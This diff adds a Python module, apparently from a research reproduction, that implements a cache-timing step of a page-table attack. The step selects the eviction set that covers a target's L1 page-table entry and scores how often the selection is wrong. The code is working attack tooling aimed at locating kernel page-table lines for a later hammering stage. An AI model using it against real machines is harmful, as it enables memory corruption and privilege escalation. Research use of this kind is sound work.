@@ -1,0 +1,123 @@
+"""Algorithm 2: selecting the pool eviction set that covers an L1PTE.
+
+The attacker cannot compute which (LLC set, slice) holds the L1PTE of a
+target address — the PTE's physical address is a kernel secret.  But it
+*can* compute the L1PTE's line offset within its page-table page (pure
+virtual-address arithmetic), shortlist the pool sets with that offset,
+and find the right one by timing: sweep a candidate set, evict the
+target's TLB entry, and time a load of the target.  Only the congruent
+candidate forces the page-table walk to fetch the L1PTE from DRAM, so
+it produces the maximum latency.
+
+Per Section III-D the target address must be page-aligned with page
+offset 0 and the L1PTE offset must differ from 0, so the sweep evicts
+the L1PTE rather than the target's own data line.
+"""
+
+from repro.core.layout import PROBE_DATA_OFFSET
+from repro.core.timing_probe import fenced_timed_read
+from repro.params import LINE_SHIFT, PAGE_SHIFT, table_index
+from repro.utils.stats import median
+
+
+def l1pte_line_offset(target_va):
+    """Line offset (0..63) of the target's L1PTE inside its L1PT page.
+
+    Entry index ``table_index(va, 1)`` times 8 bytes, divided by the
+    line size — knowable from the virtual address alone.
+    """
+    return (table_index(target_va, 1) * 8) >> LINE_SHIFT
+
+
+def profile_eviction_set(
+    attacker, eviction_set, tlb_eviction_set, target_va, trials=8, sweeps=1
+):
+    """Median latency of the target after sweeping one candidate set.
+
+    Algorithm 2's ``profile_evict_set``: sweep the candidate lines
+    (possibly evicting the L1PTE), flush the target's TLB entry (so the
+    next access must walk), then time the target access.  ``sweeps`` >
+    1 is needed on non-inclusive LLCs (see the hammer loop).
+    """
+    latencies = []
+    for _ in range(trials):
+        for _ in range(sweeps):
+            for va in eviction_set.lines:
+                attacker.touch(va)
+        for va in tlb_eviction_set:
+            attacker.touch(va)
+        latencies.append(fenced_timed_read(attacker, target_va + PROBE_DATA_OFFSET))
+    return median(latencies)
+
+
+def select_llc_eviction_set(
+    attacker, pool, tlb_eviction_set, target_va, trials=8, sweeps=1
+):
+    """Algorithm 2: the pool set that maximises the target's walk latency.
+
+    Returns ``(eviction_set, profile)`` where profile maps each
+    candidate to its median latency (useful for the false-positive
+    evaluation in Section IV-C).
+    """
+    if target_va & ((1 << PAGE_SHIFT) - 1):
+        raise ValueError("target must be page-aligned (Section III-D)")
+    offset = l1pte_line_offset(target_va)
+    if offset == ((target_va >> LINE_SHIFT) & 63):
+        raise ValueError(
+            "target page offset collides with its L1PTE line offset; "
+            "pick a different target page within the 2 MiB region"
+        )
+    candidates = pool.sets_for_offset(offset)
+    if not candidates:
+        raise LookupError("pool has no eviction sets for line offset %d" % offset)
+    profile = {}
+    best = None
+    best_latency = -1.0
+    for candidate in candidates:
+        latency = profile_eviction_set(
+            attacker, candidate, tlb_eviction_set, target_va, trials, sweeps
+        )
+        profile[candidate] = latency
+        if latency > best_latency:
+            best_latency = latency
+            best = candidate
+    return best, profile
+
+
+def selection_false_positive_rate(
+    attacker, inspector, pool, tlb_builder, targets, tlb_set_size, trials=8
+):
+    """Section IV-C evaluation: how often Algorithm 2 picks a wrong set.
+
+    For each target, run the selection, then use the Inspector (the
+    evaluation kernel module) to check whether the chosen set is truly
+    congruent with the target's L1PTE.  The paper reports <= 6 %.
+    """
+    wrong = 0
+    scored = 0
+    for target_va in targets:
+        tlb_set = tlb_builder.build(target_va, tlb_set_size)
+        chosen, _ = select_llc_eviction_set(
+            attacker, pool, tlb_set, target_va, trials
+        )
+        l1pte_paddr = inspector.l1pte_paddr(attacker.process, target_va)
+        if l1pte_paddr is None:
+            continue
+        truth = inspector.llc_set_and_slice(l1pte_paddr)
+        scored += 1
+        if not _set_matches(attacker, inspector, chosen, truth):
+            wrong += 1
+    return wrong / scored if scored else 0.0
+
+
+def _set_matches(attacker, inspector, eviction_set, truth):
+    """Whether an eviction set's lines live in the ground-truth (set, slice)."""
+    hits = 0
+    for va in eviction_set.lines:
+        frame = inspector.frame_of(attacker.process, va)
+        if frame is None:
+            continue
+        paddr = (frame << PAGE_SHIFT) | (va & 0xFFF)
+        if inspector.llc_set_and_slice(paddr) == truth:
+            hits += 1
+    return hits * 2 > len(eviction_set.lines)
